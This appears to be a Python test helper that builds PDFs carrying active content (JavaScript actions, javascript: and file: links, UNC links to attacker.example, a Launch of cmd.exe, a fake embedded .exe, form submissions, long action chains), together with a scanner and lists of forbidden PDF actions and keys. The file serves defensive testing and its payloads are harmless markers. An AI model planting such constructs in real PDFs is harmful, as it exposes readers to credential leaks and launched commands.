"""PDFs that carry active content, one kind per file, each in the places a viewer runs it from; and a
scanner that looks at every object of a PDF for any of it."""

from __future__ import annotations

import io
import itertools
from collections.abc import Callable
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from reportlab.pdfgen import canvas

HARMLESS = "https://example.org/contrat"
MARK = "DOSSIER-HOSTILE"  # in every script and forbidden target, so that a leftover shows in the bytes


def _base() -> pikepdf.Pdf:
    buffer = io.BytesIO()
    sheet = canvas.Canvas(buffer, invariant=True)
    for n in (1, 2):
        sheet.drawString(72, 760, f"Contrat, page {n}")
        sheet.showPage()
    sheet.save()
    pdf = pikepdf.open(io.BytesIO(buffer.getvalue()))
    link = _annot(pdf, Name.Link, A=Dictionary(S=Name.URI, URI=String(HARMLESS)))
    pdf.pages[0].obj.Annots = Array([link])
    return pdf


def _annot(pdf: pikepdf.Pdf, subtype: Name, **entries: object) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([72, 700, 300, 720]),
                                        **entries))


def _js(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{MARK}')")))


def _on_page(pdf: pikepdf.Pdf, annotation: pikepdf.Object, page: int = 0) -> None:
    obj = pdf.pages[page].obj
    if Name.Annots not in obj:
        obj.Annots = Array()
    obj.Annots.append(annotation)


def _link_with(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    _on_page(pdf, _annot(pdf, Name.Link, A=action))
    _on_page(pdf, _annot(pdf, Name.Link, A=action), page=1)


def _file_spec(pdf: pikepdf.Pdf) -> Dictionary:
    data = pdf.make_stream(f"MZ {MARK}".encode(), Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String("annexe.exe"), UF=String("annexe.exe"), EF=Dictionary(F=data))


def javascript(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=_js(pdf), C=_js(pdf))
    pdf.Root.OpenAction = _js(pdf)
    pdf.Root.AA = Dictionary(WC=_js(pdf))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("boot"), _js(pdf)])))
    _link_with(pdf, _js(pdf))
    # A script under a key no viewer knows, where only a walk of every object finds it.
    pdf.pages[1].obj[Name("/PieceInfo")] = Dictionary(Hidden=Dictionary(Private=_js(pdf)))


def uri_javascript(pdf: pikepdf.Pdf) -> None:
    _link_with(pdf, Dictionary(S=Name.URI, URI=String(f"javascript:alert('{MARK}')")))
    _link_with(pdf, Dictionary(S=Name.URI, URI=String(f" \x01JavaScript:alert('{MARK}')")))


def uri_file(pdf: pikepdf.Pdf) -> None:
    _link_with(pdf, Dictionary(S=Name.URI, URI=String(f"file:///etc/{MARK}")))
    _link_with(pdf, Dictionary(S=Name.URI, URI=String(f"\\\\attacker.example\\{MARK}\\x")))


def remote_goto(pdf: pikepdf.Pdf) -> None:
    target = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String(f"\\\\attacker.example\\{MARK}\\leak.pdf"))
    _link_with(pdf, Dictionary(S=Name.GoToR, F=target, D=Array([0, Name.Fit]), NewWindow=True))


def embedded_goto(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("annexe.pdf"), _file_spec(pdf)])))
    _link_with(pdf, Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("annexe.pdf")), D=Array([0, Name.Fit])))


def launch(pdf: pikepdf.Pdf) -> None:
    _link_with(pdf, Dictionary(S=Name.Launch, F=String(f"C:\\Windows\\{MARK}.exe"),
                               Win=Dictionary(F=String("cmd.exe"), P=String(f"/c {MARK}"))))


def form_actions(pdf: pikepdf.Pdf) -> None:
    """A form whose field and widget submit, import, reset and run scripts."""
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("montant"), V=String("1 234,50"),
                                         AA=Dictionary(K=_js(pdf), F=_js(pdf))))
    widget = _annot(pdf, Name.Widget, Parent=field, P=pdf.pages[0].obj,
                    A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"https://{MARK}.example/")),
                                 Next=Dictionary(S=Name.ImportData, F=String(f"{MARK}.fdf"))),
                    AA=Dictionary(Fo=_js(pdf), Bl=Dictionary(S=Name.ResetForm)))
    field.Kids = Array([widget])
    _on_page(pdf, widget)
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(f"<xdp>{MARK}</xdp>".encode()))


def media_actions(pdf: pikepdf.Pdf) -> None:
    sound = pdf.make_stream(f"{MARK}".encode(), Type=Name.Sound, R=8000)
    _link_with(pdf, Dictionary(S=Name.Sound, Sound=sound))
    _link_with(pdf, Dictionary(S=Name.Movie, T=String(MARK)))
    _link_with(pdf, Dictionary(S=Name.Rendition, OP=0, JS=String(f"play('{MARK}')")))


def attachment_annotations(pdf: pikepdf.Pdf) -> None:
    _on_page(pdf, _annot(pdf, Name.FileAttachment, FS=_file_spec(pdf), Contents=String("annexe")))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("annexe.exe"), _file_spec(pdf)])))


def media_annotations(pdf: pikepdf.Pdf) -> None:
    sound = pdf.make_stream(MARK.encode(), Type=Name.Sound, R=8000)
    _on_page(pdf, _annot(pdf, Name.Sound, Sound=sound))
    _on_page(pdf, _annot(pdf, Name.Movie, Movie=Dictionary(F=String(f"{MARK}.mov"))))
    _on_page(pdf, _annot(pdf, Name.Screen, A=Dictionary(S=Name.Rendition, OP=0)))
    _on_page(pdf, _annot(pdf, Name("/RichMedia"), RichMediaContent=Dictionary(Assets=Dictionary(
        Names=Array([String("x.swf"), _file_spec(pdf)])))))
    _on_page(pdf, _annot(pdf, Name("/3D"), **{"3DD": pdf.make_stream(MARK.encode(), Type=Name("/3D"),
                                                                     Subtype=Name("/U3D"))}))


def long_chain(pdf: pikepdf.Pdf, length: int = 10_000) -> None:
    """A harmless-looking link whose /Next runs through ``length`` actions (as dictionaries and
    arrays in turn) to a script, and a chain that loops back on itself."""
    actions = [pdf.make_indirect(Dictionary(S=Name.URI, URI=String(f"{HARMLESS}#{n}"))) for n in range(length)]
    for n, (this, following) in enumerate(itertools.pairwise(actions)):
        this.Next = following if n % 2 else Array([following])
    actions[-1].Next = Array([Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])), _js(pdf)])
    _link_with(pdf, actions[0])
    first = pdf.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage))
    second = pdf.make_indirect(Dictionary(S=Name.Launch, F=String(f"{MARK}.exe"), Next=first))
    first.Next = Array([second])
    _link_with(pdf, first)


KINDS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "javascript": javascript,
    "uri-javascript": uri_javascript,
    "uri-file": uri_file,
    "remote-goto": remote_goto,
    "embedded-goto": embedded_goto,
    "launch": launch,
    "form-actions": form_actions,
    "media-actions": media_actions,
    "attachment-annotations": attachment_annotations,
    "media-annotations": media_annotations,
    "long-chain": long_chain,
}


def hostile_pdf(path: Path, *kinds: str) -> Path:
    with _base() as pdf:
        for kind in kinds:
            KINDS[kind](pdf)
        pdf.save(path)
    return path


# --- the scanner --------------------------------------------------------------------------------

FORBIDDEN_ACTIONS = {"/JavaScript", "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData", "/ResetForm",
                     "/Rendition", "/Sound", "/Movie", "/RichMediaExecute"}
FORBIDDEN_SUBTYPES = {"/FileAttachment", "/RichMedia", "/Sound", "/Movie", "/Screen", "/3D"}
FORBIDDEN_KEYS = {"/JS", "/AA", "/EF", "/EmbeddedFiles", "/JavaScript", "/XFA", "/RichMediaContent"}


def active_content(path: Path) -> list[str]:
    """Every piece of active content in any object of the PDF at ``path``, said in a few words."""
    found: list[str] = []
    with pikepdf.open(path) as pdf:
        todo: list[object] = [*list(pdf.objects), pdf.trailer]
        seen: set[tuple[int, int]] = set()
        while todo:
            obj = todo.pop()
            if isinstance(obj, pikepdf.Object) and obj.is_indirect:
                if obj.objgen in seen:
                    continue
                seen.add(obj.objgen)
            if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                keys = set(obj.keys())
                found += [f"key {k}" for k in keys & FORBIDDEN_KEYS]
                action = str(obj.get("/S", ""))
                if action in FORBIDDEN_ACTIONS:
                    found.append(f"action {action}")
                if action == "/URI":
                    uri = str(obj.get("/URI", ""))
                    if not uri.startswith(("http://", "https://", "mailto:")):
                        found.append(f"URI {uri!r}")
                if str(obj.get("/Subtype", "")) in FORBIDDEN_SUBTYPES:
                    found.append(f"annotation {obj.get('/Subtype')}")
                if str(obj.get("/Type", "")) in ("/EmbeddedFile", "/Sound"):
                    found.append(f"object {obj.get('/Type')}")
                todo += [obj.get(k) for k in keys]
            elif isinstance(obj, pikepdf.Array):
                todo += list(obj)
    if MARK.encode() in path.read_bytes():
        found.append(f"{MARK} in the file's bytes")
    return found


def uri_links(path: Path) -> list[str]:
    """The targets of the URI links on the pages of the PDF at ``path``."""
    with pikepdf.open(path) as pdf:
        return [str(annot.A.URI) for page in pdf.pages for annot in page.obj.get("/Annots", [])
                if "/A" in annot and annot.A.get("/S") == "/URI"]
